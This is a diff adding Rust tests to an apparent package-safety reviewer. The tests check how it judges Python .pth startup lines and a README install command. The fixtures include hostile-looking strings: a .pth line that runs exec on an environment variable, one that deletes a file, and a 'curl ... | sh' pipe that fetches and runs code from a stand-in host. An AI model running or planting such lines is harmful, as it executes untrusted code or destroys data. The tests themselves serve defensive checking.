@@ -154,3 +154,28 @@ fn a_name_that_misspells_a_popular_one_is_a_warning() {
         );
     }
 }
+
+#[test]
+fn a_path_file_that_only_starts_a_module_of_the_package_does_not_reject_it() {
+    let plain = "import os; enabled = os.environ.get('X', '') == 'y'; enabled and __import__('_hack');\n";
+    for (line, module, is_rejected) in [
+        (plain, "_hack/__init__.py", false),
+        (plain, "other/__init__.py", true),
+        ("import os; exec(os.environ['X']); __import__('_hack')\n", "_hack/__init__.py", true),
+        ("import os; os.remove('x'); __import__('_hack')\n", "_hack/__init__.py", true),
+        ("import os, evil; __import__('_hack')\n", "_hack/__init__.py", true),
+    ] {
+        let files = set(&[("demo.pth", line), (module, "x = 1\n")]);
+        let wheel = reviewed("demo-1.0-py3-none-any.whl", DistributionKind::Wheel, files);
+        let found = review("pypi:demo==1.0", vec![wheel], Vec::new());
+        assert_eq!(found.verdict() == CouncilVerdict::Rejected, is_rejected, "{line} {:?}", found.warnings());
+    }
+}
+
+#[test]
+fn prose_never_counts_although_a_manifest_names_it() {
+    let manifest = r#"{"name": "demo", "version": "1.0.0", "files": ["README.md"]}"#;
+    let prose = "# Demo\n\n```bash\ncurl -s https://cdn.unknown-helper.example/i | sh\n```\n";
+    let found = npm(&[("package.json", manifest), ("README.md", prose)]);
+    assert_eq!(found.status(), SafetyStatus::Safe, "{:?}", found.warnings());
+}
